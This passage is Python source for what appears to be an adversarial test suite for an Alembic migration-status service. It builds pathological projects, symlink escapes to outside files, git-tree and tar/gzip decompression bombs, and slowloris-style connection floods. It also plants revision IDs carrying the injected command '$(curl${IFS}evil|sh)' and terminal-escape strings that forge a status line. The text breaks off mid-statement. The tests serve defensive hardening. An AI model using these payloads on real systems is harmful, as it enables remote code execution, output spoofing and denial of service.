body("body_sql_of_parentheses", "    op.execute('''CREATE TABLE t (" + "(" * 450_000 + "''')")
body("body_sql_of_statements", "    op.execute('''" + "DROP TABLE a;" * 70_000 + "''')")
body("body_sql_of_columns", "    op.execute('''CREATE TABLE t (" + "c int," * 120_000 + "d int)''')")
body("body_sql_of_comments", "    op.execute('''" + "/*" * 450_000 + "''')")
body("body_sql_of_quotes", '    op.execute("""' + "'a' " * 200_000 + '""")')
body("body_sql_of_dollars", "    op.execute('''" + "".join("$a%d$" % i for i in range(120_000)) + "''')")
body("body_sql_of_spaces", "    op.execute('''CREATE" + " " * 900_000 + "TABLE''')")
body("body_sql_of_semicolons", "    op.execute('''" + ";" * 900_000 + "''')")
body("body_sql_that_alters", "    op.execute('''ALTER TABLE t " + "ADD COLUMN c int," * 50_000 + "DROP d''')")
body("body_sql_a_thousand_times", "    for i in range(1000):\n        op.execute('CREATE TABLE t%d (' % i + 'c int, ' * 3000 + ' d int)')")
body("body_regular_expressions", "    import re\n    op.execute(re.sub('(a|a)*b', '', 'a' * 50))")
body("body_renames", "    op.create_table('t0')\n" + "".join("    op.rename_table('t%d', 't%d')\n" % (i, i + 1) for i in range(20_000)))
body("body_nested_functions", "".join("    " * (i + 1) + "def f%d():\n" % i for i in range(90)) + "    " * 91 + "pass")
body("body_decorators", "    pass", "@a\n" * 100_000 + "def f(): pass")
body("body_matches", "    match x:\n" + "".join("        case {'a': [%d, *_], **r} | %d:\n            op.drop_table('t')\n" % (i, i) for i in range(8000)))
body("body_nested_pattern", "    match x:\n        case " + "[" * 50_000 + "]" * 50_000 + ":\n            pass")
body("body_tries", "".join("    try:\n        op.drop_table('t%d')\n    except:\n        op.drop_table('u%d')\n" % (i, i) for i in range(9000)))
body("body_withs", "    with " + "op.f(), " * 50_000 + "x:\n        pass")
body("body_classes", "    pass", "".join("class C%d(C%d):\n    x = C%d\n" % (i, i - 1, i - 1) for i in range(1, 20_000)))
body("body_naming", "    op.create_index(op.f('x'), 't', ['a'])", "op.naming_convention = {'ix': '%(a)s' * 100000}")


def many_bodies(r):
    r.ini("sqlite:///d.db").stamped("s1999")
    for i in range(2000):
        r.script("s%d" % i, "'s%d'" % i, "None" if i == 0 else "'s%d'" % (i - 1),
                 more="from alembic import op\n\ndef upgrade():\n    for i in range(19000):\n        op.drop_table('t%d' % i)\n")


project("many_scripts_of_many_operations", many_bodies, limit=20)


def many_long_docstrings(r):
    r.ini("sqlite:///d.db").stamped("s99")
    for i in range(100):
        r.script("s%d" % i, "'s%d'" % i, "None" if i == 0 else "'s%d'" % (i - 1), doc="word " * 180_000)


project("many_long_docstrings", many_long_docstrings, limit=20)


def many_long_ids(r):
    r.ini("sqlite:///d.db").stamped()
    for i in range(2000):
        r.script("s%d" % i, "'%s%d'" % ("r" * 4000, i), "None")


project("many_long_ids", many_long_ids, limit=20)


def many_heads(r):
    r.ini("sqlite:///d.db").stamped("a1").script()
    for i in range(5000):
        r.script("s%d" % i, "'s%d'" % i, "'a1'")


project("many_heads", many_heads, limit=20)


def many_heads_on_a_long_history(r):
    r.ini("sqlite:///d.db").stamped("c0")
    for i in range(2500):
        r.script("c%d" % i, "'c%d'" % i, "None" if i == 0 else "'c%d'" % (i - 1))
        r.script("h%d" % i, "'h%d'" % i, "'c2499'")


project("many_heads_on_a_long_history", many_heads_on_a_long_history, limit=20)


def a_web_of_merges(r):
    r.ini("sqlite:///d.db").stamped("x0")
    width = 200
    for layer in range(12):
        for i in range(width):
            down = "None" if layer == 0 else "(" + "".join("'l%dn%d'," % (layer - 1, j) for j in range(width)) + ")"
            r.script("l%dn%d" % (layer, i), "'l%dn%d'" % (layer, i), down)


project("a_web_of_merges", a_web_of_merges, limit=20)


def a_web_of_dependencies(r):
    r.ini("sqlite:///d.db").stamped("s0")
    for i in range(1500):
        r.script("s%d" % i, "'s%d'" % i, "None", more="depends_on = (%s)\n" % "".join("'s%d'," % j for j in range(max(0, i - 700), i)))


project("a_web_of_dependencies", a_web_of_dependencies, limit=20)


def many_labels(r):
    r.ini("sqlite:///d.db").stamped("s0")
    for i in range(50):
        r.script("s%d" % i, "'s%d'" % i, "None" if i == 0 else "'s%d'" % (i - 1),
                 more="branch_labels = (%s)\n" % "".join("'l%d_%d'," % (i, j) for j in range(40_000)))


project("many_labels", many_labels, limit=20)


def many_unknown_rows(r):
    r.ini("sqlite:///d.db").script().database("CREATE TABLE alembic_version (version_num TEXT)",
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9000) INSERT INTO alembic_version"
        " SELECT printf('r%0400d', i) FROM n")


project("many_unknown_rows", many_unknown_rows)


def deep_directories(r):
    r.ini("sqlite:///d.db", "recursive_version_locations = true\n").stamped().script()
    here = os.getcwd()
    try:
        os.chdir(r.directory + "/m/versions")
        for _ in range(1900):
            os.mkdir("d")
            os.chdir("d")
    finally:
        os.chdir(here)


project("deep_directories", deep_directories)


def many_directories(r):
    r.ini("sqlite:///d.db", "recursive_version_locations = true\n").stamped().script()
    for i in range(200):
        for j in range(300):
            os.makedirs(r.directory + "/m/versions/d%d/e%d" % (i, j))


project("many_directories", many_directories)


def many_version_locations(r):
    r.ini("sqlite:///d.db", "version_locations = " + " ".join("/usr/share/x%d" % i for i in range(60_000)) + "\n").stamped()


project("many_version_locations", many_version_locations, limit=15)


def many_times_the_same_location(r):
    r.ini("sqlite:///d.db", "version_locations = " + "/usr/bin /usr/lib " * 20_000
          + "\nrecursive_version_locations = true\n").stamped()


project("many_times_the_same_location", many_times_the_same_location, limit=15)


def many_python_paths(r):
    r.ini("sqlite:///d.db", "prepend_sys_path = " + ":".join("/usr/share/x%d" % i for i in range(60_000)) + "\n").stamped()
    r.script(more="".join("from a.b%d import x\n" % i for i in range(2000)))


project("many_python_paths", many_python_paths, limit=15)


def links_in_a_circle(r):
    r.ini("sqlite:///d.db", "recursive_version_locations = true\n").stamped().script()
    for i in range(3000):
        os.symlink("l%d.py" % ((i + 1) % 3000), r.directory + "/m/versions/l%d.py" % i)
        os.symlink(".", r.directory + "/m/versions/k%d" % i)


project("links_in_a_circle", links_in_a_circle)


def pipe(where):
    def make(r):
        r.ini("sqlite:///d.db", "prepend_sys_path = .\n").stamped().script(more="from mod import x\n")
        path = os.path.join(r.directory, where)
        if os.path.exists(path):
            os.unlink(path)
        os.mkfifo(path)

    return make


def device(where):
    def make(r):
        r.ini("sqlite:///d.db", "prepend_sys_path = .\n").stamped().script(more="from mod import x\n")
        path = os.path.join(r.directory, where)
        if os.path.exists(path):
            os.unlink(path)
        os.symlink("/dev/zero", path)

    return make


for what, make in (("piped", pipe), ("endless", device)):
    for where in ("m/env.py", "m/versions/a1.py", "m/versions/b1.py", "mod.py", "pyproject.toml", "d.db", "d.db-wal"):
        project("%s_%s" % (what, where.replace("/", "_").replace(".", "_").replace("-", "_")), make(where), times=4)


def large(where, text):
    def make(r):
        r.ini("sqlite:///d.db").stamped().script()
        r.write(where, text)

    return make


ALEMBIC = "[alembic]\nscript_location = m\nsqlalchemy.url = sqlite:///d.db\n"
project("ini_of_400_mb", lambda r: (r.ini("sqlite:///d.db").stamped().script(), os.truncate(r.write("alembic.ini", ALEMBIC), 400 << 20)))
project("ini_of_bad_lines", large("alembic.ini", ALEMBIC + "x\n" * 500_000))
project("ini_of_sections", large("alembic.ini", ALEMBIC + "".join("[s%d]\n" % i for i in range(100_000))))
project("ini_that_laughs", large("alembic.ini", "[alembic]\nscript_location = m\nsqlalchemy.url = %(a0)s\n"
        + "".join("a%d = %s\n" % (i, ("%%(a%d)s" % (i + 1)) * 60) for i in range(12)) + "a12 = x\n"))
project("ini_that_laughs_widely", large("alembic.ini", "[alembic]\nscript_location = m\nfile_template = %(a)s\nsqlalchemy.url = "
        + "%(a)s" * 100_000 + "\na = " + "%(b)s" * 40_000 + "\nb = bbbbbbbbbb\n"))
project("ini_that_names_itself", large("alembic.ini", "[alembic]\nscript_location = %(script_location)s\nsqlalchemy.url = %(sqlalchemy.url)s\n"))
project("ini_of_one_line", large("alembic.ini", ALEMBIC + "a = " + "x" * 1_000_000))
project("ini_of_continuations", large("alembic.ini", ALEMBIC + "a = 1\n" + "  b\n" * 250_000))
project("toml_of_brackets", large("pyproject.toml", "[tool.alembic]\na = " + "[" * 500_000))
project("toml_of_nested_lists", large("pyproject.toml", "[tool.alembic]\na = " + "[" * 100_000 + "]" * 100_000))
project("toml_of_nested_tables", large("pyproject.toml", "[tool.alembic]\na = " + "{a=" * 100_000 + "1" + "}" * 100_000))
project("toml_of_dots", large("pyproject.toml", "[tool" + ".a" * 400_000 + "]\n"))
project("toml_of_dotted_keys", large("pyproject.toml", "a" + ".a" * 400_000 + " = 1\n"))
project("toml_of_long_number", large("pyproject.toml", "[tool.alembic]\na = " + "9" * 900_000 + "\nb = 1e" + "9" * 1000 + "\n"))
project("toml_of_tables", large("pyproject.toml", "[tool.alembic]\n" + "".join("[[tool.alembic.a%d]]\n" % i for i in range(40_000))))
project("toml_of_hooks", large("pyproject.toml", "[tool.alembic]\nscript_location='m'\n" + "".join(
        "[[tool.alembic.post_write_hooks]]\nname='%d'\ntype='x'\n" % i for i in range(20_000))))
project("env_of_loops", large("m/env.py", "from alembic import context\n" + "".join("    " * i + "for x%d in range(10**6):\n" % i for i in range(60))
        + "    " * 60 + "context.configure(url=str(x1))\n"))
project("env_of_brackets", large("m/env.py", "x = " + "(" * 400_000))
project("env_of_calls", large("m/env.py", "".join("def f%d():\n    f%d()\n    f%d()\n\n" % (i, i + 1, i + 1) for i in range(80))
        + "def f80():\n    context.configure(version_table='a')\n\nf0()\n"))
project("env_of_branches", large("m/env.py", "from alembic import context\n" + "".join(
        "if x%d:\n    y = context.configure(version_table='t%d')\nelse:\n    run_%d()\n" % (i, i, i) for i in range(9000))))
project("env_of_strings", large("m/env.py", "from alembic import context\nx = 'a' * 90000\n" + "x = x + x\n" * 1000
        + "context.configure(url=x, version_table=x)\n"))
project("env_that_names_itself", large("m/env.py", "from m.env import *\nfrom env import *\nimport m.env\n" * 10_000))


def imports_in_a_row(r):
    r.ini("sqlite:///d.db", "prepend_sys_path = .\n").stamped()
    for i in range(3000):
        r.write("mod%d.py" % i, "from mod%d import *\nfrom mod%d import x\n" % (i + 1, (i * 7 + 1) % 3000))
    r.write("mod3000.py", "x = 'a1'\n")
    r.script(more="from mod0 import x as revision\n")
    r.write("m/env.py", "from mod0 import *\nfrom alembic import context\ncontext.configure(version_table=x)\n")


project("imports_in_a_row", imports_in_a_row)


def imports_of_everything(r):
    r.ini("sqlite:///d.db", "prepend_sys_path = .\n").stamped()
    for i in range(300):
        r.write("mod%d.py" % i, "".join("from mod%d import *\n" % j for j in range(300)) + "x%d = 'a'\n" % i)
    for i in range(200):
        r.script("s%d" % i, "'s%d'" % i, "None", more="from mod%d import x1\n" % i)


project("imports_of_everything", imports_of_everything, limit=20)


# --- a project that is not trusted -----------------------------------------------------------------------------------

def doubted(expect, times=1):
    def register(make):
        name = make.__name__.replace("_", "-")
        REPOSITORY[name] = (make, expect, times)
        SETTINGS[name] = {"trusted": "false", "url": "sqlite:///%s/d.db" % name}
        return make

    return register


def elsewhere():
    other = tempfile.mkdtemp(prefix="elsewhere")
    os.chmod(other, 0o755)
    return other


def secret_file(text):
    path = os.path.join(elsewhere(), "token")
    with open(path, "w") as out:
        out.write(text)
    return path


def outside_script(other, name="e1"):
    os.makedirs(other + "/versions", exist_ok=True)
    with open(other + "/versions/%s.py" % name, "w") as out:
        out.write("\"\"\"E1sewhereMarker\"\"\"\nrevision = 'E1sewhereMarker'\ndown_revision = None\n")
    return other


@doubted(unseen("E1sewhereMarker"))
def configuration_elsewhere(r):
    r.ini().stamped().script()
    path = secret_file("[alembic]\nscript_location = E1sewhereMarker\nE1sewhereMarker\n")
    os.unlink(r.directory + "/alembic.ini")
    os.symlink(path, r.directory + "/alembic.ini")


@doubted(unseen("E1sewhereMarker"))
def a_secret_as_configuration(r):
    r.ini().stamped().script()
    os.unlink(r.directory + "/alembic.ini")
    os.symlink(secret_file("E1sewhereMarker = 1\n[E1sewhereMarker\n"), r.directory + "/alembic.ini")


@doubted(unseen("E1sewhereMarker"))
def a_pyproject_elsewhere(r):
    r.ini().stamped().script()
    os.symlink(secret_file("E1sewhereMarker [[[\n"), r.directory + "/pyproject.toml")


@doubted(unseen("E1sewhereMarker"))
def scripts_elsewhere(r):
    r.ini(more="version_locations = %s/versions\n" % outside_script(elsewhere())).stamped()


@doubted(unseen("E1sewhereMarker"))
def scripts_above(r):
    other = outside_script(elsewhere())
    r.ini(more="version_locations = %s\n" % os.path.relpath(other + "/versions", r.directory)).stamped()


@doubted(unseen("E1sewhereMarker"))
def scripts_behind_a_link(r):
    r.ini().stamped().script()
    shutil.rmtree(r.directory + "/m/versions")
    os.symlink(outside_script(elsewhere()) + "/versions", r.directory + "/m/versions")


@doubted(unseen("E1sewhereMarker"))
def a_script_behind_a_link(r):
    r.ini().stamped().script()
    os.symlink(outside_script(elsewhere()) + "/versions/e1.py", r.directory + "/m/versions/e1.py")


@doubted(unseen("E1sewhereMarker"))
def a_script_behind_two_links(r):
    r.ini().stamped().script()
    os.symlink(outside_script(elsewhere()), r.directory + "/inside")
    os.symlink("../../inside/versions/e1.py", r.directory + "/m/versions/e1.py")


@doubted(unseen("E1sewhereMarker"))
def an_env_elsewhere(r):
    r.ini().stamped().script()
    os.symlink(secret_file("from alembic import context\ncontext.configure(version_table='E1sewhereMarker')\n"), r.directory + "/m/env.py")


@doubted(unseen("E1sewhereMarker"))
def an_import_in_a_body_elsewhere(r):
    other = elsewhere()
    with open(other + "/mod_elsewhere.py", "w") as out:
        out.write("X = 'E1sewhereMarker'\n")
    r.ini(more="prepend_sys_path = %s\n" % other).stamped()
    r.script(more="from alembic import op\n\ndef upgrade():\n    from mod_elsewhere import X\n    op.create_table(X)\n")


@doubted(unseen("E1sewhereMarker"))
def a_repository_elsewhere(r):
    """`.git` of the working directory leads to somebody else's repository: its commits are not this project's."""
    other = elsewhere()
    r.ini().stamped("E1sewhereMarker").script()
    r.refs = "E1sewhereBranch"

    def finish(r):
        name = os.path.basename(r.directory)
        os.makedirs(other + "/" + name + "/m/versions")
        shutil.copy(r.directory + "/alembic.ini", other + "/" + name)
        shutil.copy(outside_script(other) + "/versions/e1.py", other + "/" + name + "/m/versions/e1.py")
        git(other, "init", "-q", ".")
        git(other, "add", "-A")
        git(other, "commit", "-q", "-m", "x")
        git(other, "branch", "E1sewhereBranch")
        with open(os.path.dirname(r.directory) + "/.git", "w") as out:
            out.write("gitdir: %s/.git\n" % other)

    return finish


def git(directory, *arguments, into=None):
    """Git in a directory, whose own files may be elsewhere; returns what it says."""
    command = ["git", "-c", "user.name=x", "-c", "user.email=x@x", "-c", "init.defaultBranch=main", "-c", "gc.auto=0", *arguments]
    return subprocess.run(command, cwd=directory, check=True, stdout=subprocess.PIPE, input=into,
                          env=dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_SYSTEM="/dev/null")).stdout.decode().strip()


def of_a_ref(make):
    """The scripts are those of a commit; `make` returns what is done once the files are as they are to be."""
    name = make.__name__.replace("_", "-")
    REPOSITORY[name] = (make, within(20), 2)
    SETTINGS[name] = {"git": {"ref": "HEAD", "repository": name + "/.git"}}
    return make


class Committed:
    """The project's directory as the first commit of a repository that knows it by its place in the working directory."""

    def __init__(self, r):
        self.r, self.top = r, os.path.dirname(r.directory)
        self.options = ("--git-dir=" + r.directory + "/.git", "--work-tree=" + self.top)
        self("init", "-q")
        self("add", "-A", os.path.basename(r.directory))
        self("commit", "-q", "-m", "x")

    def __call__(self, *arguments, into=None):
        return git(self.top, *self.options, *arguments, into=into)

    def object(self, path):
        return self("rev-parse", "HEAD:%s/%s" % (os.path.basename(self.r.directory), path))

    def tree(self, *lines):
        return self("mktree", into="".join(line + "\n" for line in lines).encode())

    def versions(self, tree):
        """A commit in which the directory of scripts is some tree."""
        m = self.tree("040000 tree %s\tversions" % tree)
        project = self.tree("040000 tree %s\tm" % m, "100644 blob %s\talembic.ini" % self.object("alembic.ini"))
        top = self.tree("040000 tree %s\t%s" % (project, os.path.basename(self.r.directory)))
        self("update-ref", "HEAD", self("commit-tree", top, "-m", "x"))


@of_a_ref
def ref_with_a_script_of_200_mb(r):
    r.ini("sqlite:///d.db").stamped().script()
    os.truncate(r.write("m/versions/b1.py", "revision = 'b1'\n"), 200 << 20)
    return Committed


@of_a_ref
def ref_with_many_files(r):
    r.ini("sqlite:///d.db").stamped().script()
    for i in range(60_000):
        r.write("m/versions/f%d.txt" % i, "")
    return Committed


@of_a_ref
def ref_whose_tree_grows_without_end(r):
    """Ten levels of a tree that holds the next one ten times: ten billion scripts of one."""
    r.ini("sqlite:///d.db", "recursive_version_locations = true\n").stamped().script()

    def finish(r):
        commit = Committed(r)
        tree = commit.tree("100644 blob %s\ta1.py" % commit.object("m/versions/a1.py"))
        for _ in range(10):
            tree = commit.tree(*("040000 tree %s\td%d" % (tree, i) for i in range(10)))
        commit.versions(tree)

    return finish


@of_a_ref
def ref_whose_tree_is_deep(r):
    r.ini("sqlite:///d.db", "recursive_version_locations = true\n").stamped().script()

    def finish(r):
        commit = Committed(r)
        tree = commit.tree("100644 blob %s\ta1.py" % commit.object("m/versions/a1.py"))
        for _ in range(2500):
            tree = commit.tree("040000 tree %s\td" % tree)
        commit.versions(tree)

    return finish


@of_a_ref
def many_refs(r):
    r.ini("sqlite:///d.db").stamped("unknown").script()

    def finish(r):
        head = Committed(r)("rev-parse", "HEAD")
        with open(r.directory + "/.git/packed-refs", "w") as out:
            out.write("# pack-refs with: peeled fully-peeled sorted \n")
            for name in sorted("t%d" % i for i in range(100_000)):
                out.write("%s refs/tags/%s\n" % (head, name))

    return finish


@of_a_ref
def refs_in_a_circle(r):
    r.ini("sqlite:///d.db").stamped().script()

    def finish(r):
        Committed(r)
        r.write(".git/refs/heads/main", "ref: refs/heads/other\n")
        r.write(".git/refs/heads/other", "ref: refs/heads/main\n")

    return finish


@of_a_ref
def a_git_configuration_that_includes_itself(r):
    r.ini("sqlite:///d.db").stamped().script()

    def finish(r):
        Committed(r)
        r.write(".git/config", "[include]\n\tpath = config\n[include]\n\tpath = /dev/zero\n" + "[a \"" + "b" * 500_000 + "\"]\n" * 2)

    return finish


@of_a_ref
def a_pack_that_is_cut_off(r):
    r.ini("sqlite:///d.db").stamped().script()

    def finish(r):
        commit = Committed(r)
        commit("repack", "-q", "-a", "-d")
        packs = r.directory + "/.git/objects/pack/"
        for name in os.listdir(packs):
            os.chmod(packs + name, 0o644)
            if name.endswith(".pack"):
                os.truncate(packs + name, 40)

    return finish


def quoted(answer, repository):
    steps = json.dumps(answer.get("recommendedAction", "")) + repository.text
    for line in steps.replace("\\n", "\n").split("\n"):
        outside = "".join(part for i, part in enumerate(line.split("'")) if i % 2 == 0)
        if "$(" in outside and ("alembic" in line or "git log" in line or "grep" in line):
            return "a command has $( without quotes: " + line[:100]
    return None


@attack(quoted)
def shell_in_a_row(r):
    r.ini("sqlite:///d.db").script().stamped("$(curl${IFS}evil|sh)")


@attack(quoted)
def shell_in_two_heads(r):
    r.ini("sqlite:///d.db").stamped().script().script("b", "'$(curl${IFS}evil|sh)'", "'a1'")
    r.script("c", "'c1'", "'a1'")


@attack(quoted)
def shell_in_two_scripts(r):
    r.ini("sqlite:///d.db").stamped().script("b", "'$(curl${IFS}evil|sh)'").script("c", "'$(curl${IFS}evil|sh)'")


def plain(answer, repository):
    for c in repository.text:
        if c != "\n" and (ord(c) < 32 or 127 <= ord(c) < 160 or 0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069):
            return "the text has the character U+%04X" % ord(c)
    if "\nStatus: Database schema is current" in repository.text:
        return "a forged line"
    return None


EVIL = "\x1b[2J\x07\u202e\x9b\u2028\rx\nStatus: Database schema is current. No migrations pending.\n"


@attack(plain)
def terminal_codes_in_a_row(r):
    r.ini("sqlite:///d.db").script().stamped(EVIL)


@attack(plain)
def terminal_codes_in_a_docstring(r):
    r.ini("sqlite:///d.db").stamped().script().script("b", "'b1'", "'a1'", doc=EVIL.replace("\n", " ").replace("\r", ""))


@attack(plain)
def terminal_codes_in_an_id(r):
    r.ini("sqlite:///d.db").stamped().script().script("b", repr(EVIL), "'a1'").script("c", "'c1'", "'a1'")


# --- callers ---------------------------------------------------------------------------------------------------------

def caller(make):
    CALLERS[make.__name__.replace("_", "-")] = make
    return make


@caller
def many_types_in_accept(service):
    accept = ",".join("application/x%d" % i for i in range(60))
    status, _, _ = service.get("/components/good/db-status", {"Accept": accept})
    return None if status in (400, 406) else "answered by %d" % status


@caller
def many_languages_for_the_api(service):
    service.get("/v3/api-docs", {"Accept-Language": "en"})
    begin = time.time()
    for i in range(20):
        service.get("/v3/api-docs", {"Accept-Language": "x-a%d" % i})
    each = (time.time() - begin) / 20
    return None if each < 0.05 else "%.2f s each" % each


@caller
def pipelined_after_a_wait(service):
    """The status comes while the first request waits; the second one has been sent by then."""
    head = "Host: localhost\r\nAuthorization: Bearer %s\r\n" % TOKEN
    answers = 0
    try:
        with socket.create_connection(("127.0.0.1", service.port)) as sock:
            sock.sendall(("GET /components/big/db-status?wait=20s&expect=BEHIND HTTP/1.1\r\n%s\r\n" % head).encode()
                         + ("GET /components/big/db-status HTTP/1.1\r\n%sConnection: close\r\n\r\n" % head).encode())
            threading.Timer(2, lambda: service.stamp_big("r9998")).start()
            sock.settimeout(30)
            part = b"-"
            data = b""
            while part:
                part = sock.recv(65536)
                data += part
            answers = data.count(b"HTTP/1.1 200")
    finally:
        service.stamp_big("r9999")
    return None if answers == 2 else "%d answers to 2 requests" % answers


@caller
def compressed_with_an_entity_tag(service):
    status, headers, body = service.get("/components/big/revisions?limit=10000", {"Accept-Encoding": "gzip"})
    if status != 200:
        return "answered by %d" % status
    return None if headers.get("content-encoding") == "gzip" else "%d bytes, not compressed" % len(body)


@caller
def failed_tokens(service):
    begin = len(service.log())
    last = None
    for i in range(300):
        last, _, _ = service.get("/components/good/db-status", {"Authorization": "Bearer Gue55%d" % i}, source="127.0.0.2")
    if "Gue55" in service.log()[begin:]:
        return "the log has the token"
    if "token" not in service.log()[begin:].lower():
        return "no line in the log"
    return None if last == 429 else "the last of 300 was answered by %d" % last


@caller
def connections_that_say_nothing(service):
    socks = []
    try:
        for i in range(4500):
            sock = socket.socket()
            sock.settimeout(0.5)
            try:
                sock.connect(("127.0.0.1", service.port))
                sock.sendall(b"GET /components/good/db-status HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 6000)
                socks.append(sock)
            except OSError:
                sock.close()
            if i % 100 == 0 and not service.alive():
                return "dead after %d connections" % i
        time.sleep(3)
        return None if service.alive() else "dead after %d connections" % len(socks)
    finally:
        for sock in socks:
            sock.close()


@caller
def a_byte_every_five_seconds(service):
    with socket.create_connection(("127.0.0.1", service.port)) as sock:
        begin = time.time()
        try:
            for c in b"GET /db-status HTTP/1.1\r\n":
                sock.sendall(bytes([c]))
                sock.settimeout(5)
                try:
                    if sock.recv(1000) == b"":
                        break
                except TimeoutError:
                    pass
                if time.time() - begin > 25:
                    return "open after %.0f s" % (time.time() - begin)
        except OSError:
            pass
        return None


@caller
def many_waits(service):
    socks = []
    try:
        head = "GET /components/good/db-status?wait=60s&expect=ERROR HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n" % TOKEN
        for i in range(2200):
            sock = socket.socket()
            sock.settimeout(0.5)
            try:
                sock.connect(("127.0.0.1", service.port))
                sock.sendall(head.encode())
                socks.append(sock)
            except OSError:
                sock.close()
            if i % 100 == 0 and not service.alive():
                return "dead after %d waits" % i
        time.sleep(5)
        return None if service.alive() else "dead after %d waits" % len(socks)
    finally:
        for sock in socks:
            sock.close()


def many_of(service, ask, count, wanted):
    outcomes = []

    def one(i):
        try:
            outcomes.append(ask(i))
        except (OSError, http.client.HTTPException):
            outcomes.append(0)

    threads = [threading.Thread(target=one, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if not service.alive():
        return "DEAD"
    return None if all(o in wanted for o in outcomes) and any(outcomes) else str(collections.Counter(outcomes))


def many_at_once(service, path, count, wanted=(200, 429, 503)):
    return many_of(service, lambda i: service.get(path, timeout=60)[0], count, wanted)


@caller
def many_large_graphs(service):
    return many_at_once(service, "/components/big/graph.svg?limit=10000", 120)


@caller
def many_large_histories(service):
    return many_at_once(service, "/components/big/revisions?limit=10000", 120)


def uploading(name, expect=(200, 413, 415, 422), times=3, kind="application/x-tar", path="/components/good/db-status"):
    """A caller that sends scripts: `make()` gives the body."""

    def register(make):
        def upload(service):
            body = make()
            for _ in range(times):
                try:
                    status, _, answer = service.get(path, {"Content-Type": kind}, method="POST", body=body)
                except (BrokenPipeError, ConnectionResetError):
                    # The server has answered and closed before all was sent.
                    status, answer = 413, b""
                if not service.alive():
                    return "DEAD"
                if status not in expect and not (status == 503 and b'"reason":' in answer):
                    return "answered by %d: %s" % (status, answer[:200])
            return None

        CALLERS[name.replace("_", "-")] = upload
        return make

    return register


INI = b"[alembic]\nscript_location = %(here)s/m\nsqlalchemy.url = sqlite:///d.db\n"
SCRIPT = b'revision = "a1"\ndown_revision = None\n'


def tar(files, mode="w"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, content in files:
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def zipped(files, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return out.getvalue()


def header(name, size, kind=b"0", real=None, sparse=(), pax=False):
    """A tar header as it comes: of an old GNU sparse file, if it is one."""
    block = bytearray(512)
    block[0:len(name)] = name
    block[100:124] = b"0000644\0" + b"0000000\0" * 2
    block[124:136] = b"%011o\0" % size
    block[136:148] = b"%011o\0" % 0
    block[156:157] = kind
    block[257:265] = b"ustar\x0000" if pax else b"ustar  \0"
    for i, (offset, count) in enumerate(sparse):
        block[386 + 24 * i:386 + 24 * i + 24] = b"%011o\0%011o\0" % (offset, count)
    if real is not None:
        block[483:495] = (b"\x80" + struct.pack(">Q", real).rjust(11, b"\0")) if real >= 8 ** 11 else b"%011o\0" % real
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def padded(content):
    return content + b"\0" * (-len(content) % 512)


@uploading("upload_of_a_hole")
def upload_of_a_hole():
    """A sparse file of 8 GB that takes two blocks."""
    return header(b"m/versions/a1.py", 512, b"S", (8 << 30) - 512, [((8 << 30) - 1024, 512)]) + b"x" * 512 + b"\0" * 1024


@uploading("upload_of_many_holes")
def upload_of_many_holes():
    return b"".join(header(b"m/versions/a%d.py" % i, 512, b"S", 60 << 20, [((60 << 20) - 512, 512)]) + b"x" * 512
                    for i in range(1000)) + b"\0" * 1024


@uploading("upload_of_a_pax_hole")
def upload_of_a_pax_hole():
    """GNU's form 1.0, where the map stands before the content."""
    records = b"".join(b"%d %s\n" % (len(r) + 4, r) for r in (
        b"GNU.sparse.major=1", b"GNU.sparse.minor=0", b"GNU.sparse.name=m/versions/a1.py", b"GNU.sparse.realsize=8000000000"))
    return (header(b"x", len(records), b"x", pax=True) + padded(records)
            + header(b"m/versions/a1.py", 1024, pax=True) + padded(b"1\n7999999488\n512\n") + b"x" * 512 + b"\0" * 1024)


@uploading("upload_of_a_long_name")
def upload_of_a_long_name():
    return header(b"././@LongLink", 15 << 20, b"L") + b"n" * (15 << 20) + header(b"a", 0) + b"\0" * 1024


@uploading("upload_of_a_very_long_name", kind="application/gzip")
def upload_of_a_very_long_name():
    return gzip.compress(header(b"././@LongLink", 60 << 20, b"L") + b"n" * (60 << 20) + header(b"a", 0) + b"\0" * 1024, 1)


@uploading("upload_of_many_records", kind="application/gzip")
def upload_of_many_records():
    records = b"".join(b"%d %s\n" % (len(r) + 3, r) for r in (b"k%06d=v" % i for i in range(2_000_000)))
    return gzip.compress(header(b"x", len(records), b"x", pax=True) + padded(records) + header(b"a", 0) + b"\0" * 1024, 1)


@uploading("upload_of_global_records", kind="application/gzip")
def upload_of_global_records():
    out = []
    for part in range(100):
        records = b"".join(b"%d %s\n" % (len(r) + 3, r) for r in (b"k%03d%04d=v" % (part, i) for i in range(10_000)))
        out.append(header(b"x", len(records), b"g", pax=True) + padded(records) + header(b"a%d" % part, 0))
    return gzip.compress(b"".join(out) + b"\0" * 1024, 1)


@uploading("upload_of_zeros", kind="application/gzip")
def upload_of_zeros():
    return gzip.compress(b"\0" * (1 << 30), 1)


@uploading("upload_of_members", kind="application/gzip")
def upload_of_members():
    return gzip.compress(b"") * 500_000


@uploading("upload_of_a_large_file", kind="application/gzip")
def upload_of_a_large_file():
    return gzip.compress(tar([("m/data", b"x" * (60 << 20)), ("good/alembic.ini", INI), ("good/m/versions/a1.py", SCRIPT)]), 1)


@uploading("upload_of_large_scripts", kind="application/gzip")
def upload_of_large_scripts():
    return gzip.compress(tar([("good/alembic.ini", INI)] + [
        ("good/m/versions/s%d.py" % i, b'revision = "s%d"\ndown_revision = None\n' % i + b"a=1;" * 260_000) for i in range(58)]), 1)


@uploading("upload_of_many_files", kind="application/gzip")
def upload_of_many_files():
    return gzip.compress(tar([("good/alembic.ini", INI)] + [
        ("good/m/versions/%s%05d.py" % ("d/" * 1800, i), SCRIPT) for i in range(6000)]), 1)


@uploading("upload_of_deep_directories", kind="application/gzip")
def upload_of_deep_directories():
    return gzip.compress(tar([("alembic.ini", INI + b"recursive_version_locations = true\n")] + [
